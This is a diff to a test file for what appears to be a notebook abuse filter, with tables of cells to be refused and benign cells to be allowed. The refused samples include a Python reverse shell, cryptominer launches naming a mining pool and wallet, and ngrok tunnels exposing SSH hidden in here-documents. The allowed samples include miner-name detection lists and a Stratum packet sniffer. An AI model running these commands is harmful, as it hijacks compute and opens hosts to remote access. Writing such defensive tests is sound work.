@@ -87,6 +87,8 @@ REFUSED = [
                               "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])"]),
     ("torrentp", ["from torrentp import TorrentDownloader\n"
                   "TorrentDownloader('magnet:?xt=urn:btih:" + "a" * 40 + "', '.').start_download()"]),
+    ("a shell's here-document", ["%%bash\nbash <<EOF\nngrok tcp 22\nEOF"]),
+    ("python's here-document", ["%%bash\npython3 - <<'EOF'\nimport os\nos.system('ngrok tcp 22')\nEOF"]),
     ("renamed miner, donate level", ["!./kworker -o 10.0.0.9:3333 --donate-level 1 -B"]),
     ("renamed miner, wallet login", ["!./kworker -o gulf.moneroocean.stream:10128 -u "
                                      "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x"]),
@@ -166,6 +168,14 @@ HONEST = [
                                       "os.dup2(log.fileno(), 2)"),
     ("tor's GeoIP data installed", "!apt-get install -y tor-geoip"),
     ("pip from another index", "!pip install -i https://pypi.example.org/simple torch"),
+    ("a detector's list of miner names joined", "MINERS = ['xmrig', 'ethminer', 't-rex']\n"
+                                                "print('Blocked: ' + ', '.join(MINERS))"),
+    ("a miner's name in a formatted report", "print('{} processes named {}'.format(3, 'xmrig'))"),
+    ("a miner's name lower-cased", "name = 'XMRIG'.lower()\nprint(name in procs)"),
+    ("a sniffer looking for Stratum", "import socket\ns = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\n"
+                                      "pkt, _ = s.recvfrom(65535)\nfound = b'mining.subscribe' in pkt"),
+    ("a here-document written to a file", "%%bash\ncat <<EOF > notes.txt\nngrok http 8888\nEOF"),
+    ("a here-document in a ! line cell", "!cat <<EOF > notes.txt\n!echo done"),
     ("a loop over file names", "import os\nfor f in ['a.csv', 'b.csv']:\n    os.system('gzip ' + f)"),
     ("a config dictionary", "cfg = {'model': 'xmrig-detector', 'lr': 0.01}\nprint(cfg['model'])"),
     ("bash reading stdin from a data file", "!bash -s < params.txt"),
